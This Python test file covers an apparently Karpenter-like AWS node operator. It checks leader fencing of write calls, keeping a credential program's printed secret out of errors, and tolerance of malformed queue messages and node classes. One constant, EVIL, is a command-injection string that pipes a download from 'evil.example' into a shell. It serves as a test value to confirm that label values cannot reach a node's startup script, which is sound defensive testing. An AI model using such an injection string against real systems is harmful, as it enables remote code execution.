"""What the operator does among AWS: fenced calls, an odd queue, programs that print secrets."""

import asyncio
import copy
import json
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import product
from pathlib import Path
from typing import Any, cast

import pytest
from aiohttp import web

from karpy.adapters.clock import WallClock
from karpy.adapters.clouds.aws.calls import AwsCalls
from karpy.adapters.clouds.aws.classes import FOLLOWED, NodeClassBook
from karpy.adapters.clouds.aws.client import AwsClient, AwsTimeouts, CheckWrite, connect_aws
from karpy.adapters.clouds.aws.machines import Machines
from karpy.adapters.clouds.aws.queue import Announcements
from karpy.adapters.clouds.aws.reports import Reports
from karpy.adapters.clouds.aws.soldout import SoldOut
from karpy.adapters.kube.fence import Fence
from karpy.codec.aws.nodeclasses import read_node_class
from karpy.codec.fields import FieldInvalid, Fields, JsonObject
from karpy.codec.pods import PodReader
from karpy.core.aws.bootstrap import UserDataInvalid, node_labels
from karpy.core.aws.catalog import CatalogMaker
from karpy.core.aws.instancetypes import settings_of
from karpy.core.scheduling.decide import decide
from karpy.errors import CloudError, CloudUnavailable, KarpyError, LeadershipUncertain
from karpy.model.constraints import NodeTerm
from karpy.model.ec2 import InstanceSettings
from karpy.ports.cloud import MachineFate
from karpy.wiring.embedded import embedded_world, serve
from karpy.wiring.options import read_options
from karpy.wiring.process import Crashed, run_process
from tests.builders import exists, pod, pool, snapshot
from tests.builders.ec2 import C6G_LARGE, M5_LARGE, region
from tests.hostile.mutations import EXTREMES, paths_of, put
from tests.hostile.mutations import Path as ObjectPath
from tests.hostile.readings import fed
from tests.sim.stories import on_virtual_time

FLEET = {
    "LaunchTemplateConfigs": [],
    "TargetCapacitySpecification": {"TotalTargetCapacity": 1},
    "Type": "instant",
}
WRITES: dict[str, dict[str, Any]] = {
    "create_fleet": FLEET,
    "run_instances": {"MinCount": 1, "MaxCount": 1, "ImageId": "ami-1"},
    "terminate_instances": {"InstanceIds": ["i-1"]},
    "create_tags": {"Resources": ["i-1"], "Tags": []},
    "create_launch_template": {"LaunchTemplateName": "template", "LaunchTemplateData": {}},
    "delete_launch_template": {"LaunchTemplateName": "template"},
    "create_instance_profile": {"InstanceProfileName": "p"},
    "delete_instance_profile": {"InstanceProfileName": "p"},
    "add_role_to_instance_profile": {"InstanceProfileName": "p", "RoleName": "r"},
    "remove_role_from_instance_profile": {"InstanceProfileName": "p", "RoleName": "r"},
    "delete_message": {"QueueUrl": "http://127.0.0.1/q", "ReceiptHandle": "x"},
}
READS: dict[str, dict[str, Any]] = {
    "describe_subnets": {},
    "list_instance_profiles": {},
    "get_caller_identity": {},
}
PRINTED = "hunter2-of-the-program"


class Server:
    """Answers every call as a server that is busy, and keeps what it was asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.fence = Fence()

    async def answer(self, request: web.Request) -> web.Response:
        text = await request.text()
        self.asked.append(request.headers.get("X-Amz-Target", text))
        self.fence.close()
        return web.Response(status=503, text="")

    def check(self, what: str) -> None:
        self.fence.check("a call to", what)


@pytest.fixture
async def server(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Server]:
    found = Server()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", found.answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://127.0.0.1:{runner.addresses[0][1]}")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "key")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
    yield found
    await runner.cleanup()


@asynccontextmanager
async def client(check: CheckWrite = lambda _: None, tries: int = 1) -> AsyncIterator[AwsClient]:
    aws = await connect_aws("eu-west-1", AwsTimeouts(tries=tries), check)
    try:
        yield aws
    finally:
        await aws.close()


@pytest.mark.parametrize("call", WRITES)
async def test_after_the_renew_deadline_no_call_changes_anything(call: str, server: Server) -> None:
    async with client(server.check) as aws:
        with pytest.raises(LeadershipUncertain, match="another replica may lead"):
            await getattr(aws, call)(**WRITES[call])

    assert server.asked == []


@pytest.mark.parametrize("call", READS)
async def test_after_the_renew_deadline_calls_that_only_read_go_on(
    call: str, server: Server
) -> None:
    async with client(server.check) as aws:
        with pytest.raises(CloudError):
            await getattr(aws, call)(**READS[call])

    assert len(server.asked) == 1


async def test_a_call_that_failed_before_the_freeze_is_not_tried_again_after_it(
    server: Server,
) -> None:
    server.fence.open(server.fence.now() + 3600)

    async with client(server.check, tries=5) as aws:
        with pytest.raises(LeadershipUncertain):
            await aws.create_fleet(**FLEET)

    assert len(server.asked) == 1


async def test_what_a_credential_process_prints_is_not_repeated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "program"
    program.write_text(f"#!/bin/sh\necho {PRINTED} >&2\necho {PRINTED}\nexit ${{1}}\n")
    program.chmod(0o755)
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "config"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    for code in (0, 1):
        (tmp_path / "config").write_text(f"[default]\ncredential_process = {program} {code}\n")
        async with client() as aws:
            with pytest.raises(CloudUnavailable) as caught:
                await aws.get_caller_identity()

        assert PRINTED not in str(caught.value)


class Queue:
    """An account whose queue gives some messages once, then one that is fine."""

    def __init__(self, *messages: dict[str, Any]) -> None:
        self.answers: list[dict[str, Any]] = [
            {},
            {"Messages": "none"},
            {"Messages": [*messages, spot_message()]},
        ]
        self.urls: list[Any] = [{}, {"QueueUrl": None}]

    async def get_queue_url(self, **_: object) -> dict[str, Any]:
        return self.urls.pop(0) if self.urls else {"QueueUrl": "q"}

    async def receive_message(self, **_: object) -> dict[str, Any]:
        await asyncio.sleep(0 if self.answers else 20)
        return self.answers.pop(0) if self.answers else {}

    async def delete_message(self, **_: object) -> dict[str, Any]:
        return {}

    async def describe_instances(self, **_: object) -> list[Any]:
        return [{"InstanceId": 1, "State": "?"}]

    async def describe_instance_status(self, **_: object) -> list[Any]:
        return [{"Events": 3}, {"InstanceStatus": {"Details": 7}}]


def spot_message(**changes: object) -> dict[str, Any]:
    body = {
        "version": "0",
        "source": "aws.ec2",
        "detail-type": "EC2 Spot Instance Interruption Warning",
        "detail": {"instance-id": "i-1"},
    }
    return {"Body": json.dumps({**body, **changes}), "ReceiptHandle": "x"}


MESSAGES: dict[str, Any] = {
    "deep": {"Body": "[" * 100_000},
    "no-text": {"Body": 3},
    "no-message": None,
    "digits": {**spot_message(time="9" * 10_000), "Attributes": {"SentTimestamp": "9" * 10_000}},
    "superscript": {**spot_message(), "Attributes": {"SentTimestamp": "²"}},
    "detail": spot_message(detail=[{}]),
    "no-machine": spot_message(detail={"instance-id": {"a": 1}}),
    "entities": {
        "Body": json.dumps(
            {
                "version": "0",
                "source": "aws.health",
                "detail-type": "AWS Health Event",
                "detail": {
                    "service": "EC2",
                    "eventTypeCategory": "scheduledChange",
                    "affectedEntities": [None, {"entityValue": 7}, {"entityValue": "i-2"}],
                },
            }
        )
    },
}


@pytest.mark.parametrize("message", MESSAGES.values(), ids=MESSAGES.keys())
@on_virtual_time
async def test_an_unforeseen_message_or_answer_holds_up_no_other(
    message: dict[str, Any],
) -> None:
    troubles: list[KarpyError] = []
    clock, calls = WallClock(), cast("AwsCalls", Queue(message))
    reports = Reports(lambda _, error: troubles.append(error))
    announced = Announcements(
        calls, clock, Machines(calls, "shop"), SoldOut(clock), "interruptions", reports
    )
    async with asyncio.timeout(300):
        async for event in announced.machine_events():
            if (event.fate, event.machines) == (MachineFate.SPOT_INTERRUPTED, ("i-1",)):
                break

    assert troubles


@pytest.mark.parametrize("spec", ["7", '{"kubelet": 7}', '{"tags": [[]]}', '{"role": {}}'])
async def test_a_node_class_that_cannot_be_read_is_left_aside_by_name(spec: str) -> None:
    odd = f'{{"metadata": {{"name": "odd", "resourceVersion": "1"}}, "spec": {spec}}}'
    fine = '{"metadata": {"name": "fine", "resourceVersion": "2"}}'
    async with fed({"ec2nodeclasses": [odd, fine]}) as (feed, reports):
        book = NodeClassBook(feed)
        tasks = [asyncio.create_task(book.follow(kind)) for kind in FOLLOWED]
        await book.wait_until_synced()
        for task in tasks:
            task.cancel()
        ends = await asyncio.gather(*tasks, return_exceptions=True)

    assert all(isinstance(each, asyncio.CancelledError) for each in ends)
    assert list(book.classes) == ["fine"]
    assert [name for name, _ in reports.unreadable] == ["ec2nodeclasses.karpenter.k8s.aws odd"]


NODE_CLASS: dict[str, Any] = {
    "metadata": {"name": "odd"},
    "spec": {
        "role": "nodes",
        "amiSelectorTerms": [{"alias": "al2023@latest"}],
        "subnetSelectorTerms": [{"tags": {"team": "shop"}}],
        "securityGroupSelectorTerms": [{"id": "sg-1"}],
        "instanceStorePolicy": "RAID0",
        "tags": {"team": "shop"},
        "kubelet": {
            "maxPods": 10,
            "podsPerCore": 2,
            "systemReserved": {"cpu": "100m", "memory": "1Gi"},
            "kubeReserved": {"cpu": "1", "ephemeral-storage": "1Gi"},
            "evictionHard": {"memory.available": "5%", "nodefs.available": "1Gi"},
            "evictionSoft": {"memory.available": "10%"},
            "evictionSoftGracePeriod": {"memory.available": "1m"},
        },
        "blockDeviceMappings": [
            {"deviceName": "/dev/xvda", "rootVolume": True, "ebs": {"volumeSize": "100Gi"}}
        ],
    },
}


@pytest.mark.parametrize("part", ["metadata", "spec"])
def test_whatever_a_node_class_says_other_nodepools_have_their_types(part: str) -> None:
    sold, usual = region(M5_LARGE, C6G_LARGE), InstanceSettings()
    expected = CatalogMaker().make(sold, {"usual": usual}).by_pool["usual"]
    read = 0
    for path, value in odd_values(NODE_CLASS[part]):
        odd = copy.deepcopy(NODE_CLASS)
        put(odd[part], path, value)
        with suppress(FieldInvalid):
            settings = settings_of(read_node_class(Fields(odd)).spec)
            catalog = CatalogMaker().make(sold, {"odd": settings, "usual": usual})
            assert catalog.by_pool["usual"] == expected
            read += 1
    assert read


def odd_values(obj: JsonObject) -> Iterator[tuple[ObjectPath, Any]]:
    """Give each place of an object with each value that belongs nowhere."""
    return product(paths_of(obj), EXTREMES)


@pytest.mark.parametrize(
    ("kubelet", "path"),
    [
        ({"systemReserved": {"cpu": "much"}}, "cpu"),
        ({"kubeReserved": {"memory": ""}}, "memory"),
        ({"evictionHard": {"memory.available": "x%"}}, "memory.available"),
        ({"evictionSoft": {"memory.available": "-1Gi"}}, "memory.available"),
    ],
)
def test_an_amount_of_a_node_class_that_is_none_is_named(kubelet: JsonObject, path: str) -> None:
    obj = {"metadata": {"name": "odd"}, "spec": {"kubelet": kubelet}}

    with pytest.raises(FieldInvalid) as caught:
        read_node_class(Fields(obj))

    assert path in caught.value.path


EVIL = "x'; curl evil.example|sh; '"


def reading(*values: str) -> tuple[NodeTerm, ...]:
    expression = {"key": "team", "operator": "In", "values": [*values]}
    terms = {"nodeSelectorTerms": [{"matchExpressions": [expression]}]}
    node = {"requiredDuringSchedulingIgnoredDuringExecution": terms}
    container = {"name": "c", "image": "i"}
    spec = {"containers": [container], "affinity": {"nodeAffinity": node}}
    return PodReader().read({"metadata": {"name": "p"}, "spec": spec}).rules.required_node_terms


def test_a_term_of_label_values_says_what_it_says() -> None:
    (term,) = reading("shop", "", "a" * 63)

    assert [each.values for each in term.expressions] == [{"shop", "", "a" * 63}]


@pytest.mark.parametrize("others", [(), ("shop",)])
@pytest.mark.parametrize("value", [EVIL, "a" * 64, "a\nb", "é", "-a"])
def test_a_term_with_a_value_that_no_label_can_have_matches_no_node(
    value: str, others: tuple[str, ...]
) -> None:
    (term,) = reading(*others, value)
    teams = pool(requirements=[exists("team")])

    verdict = decide(snapshot(pools=[teams], pods=[pod("p", terms=[term])]))

    assert term.is_blank
    assert verdict.launches == ()


@pytest.mark.parametrize(("key", "value"), [("team", EVIL), (EVIL, "shop"), ("team", "a\nb")])
def test_nothing_but_labels_gets_into_the_script_of_a_machine(key: str, value: str) -> None:
    with pytest.raises(UserDataInvalid, match="is no label"):
        node_labels({key: value}, "spot")


async def test_the_last_words_of_an_operator_that_aws_refuses_are_a_line_of_its_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def connect(**_: object) -> AwsClient:
        raise CloudUnavailable(call="ec2:DescribeInstanceTypes", problem="no credentials")

    monkeypatch.setattr("karpy.wiring.clouds.aws.connect_aws", connect)
    async with embedded_world() as world, serve(world) as served:
        log = tmp_path / "log"
        words = (f"--kubeconfig={served.kubeconfig}", f"--log-output-paths={log}", "--provider=aws")
        with pytest.raises(Crashed):
            await run_process(read_options(words, {}), {}, asyncio.Event())

    last = json.loads(log.read_text().splitlines()[-1])
    assert (last["message"], last["code"]) == ("operator has ended", CloudUnavailable.code)
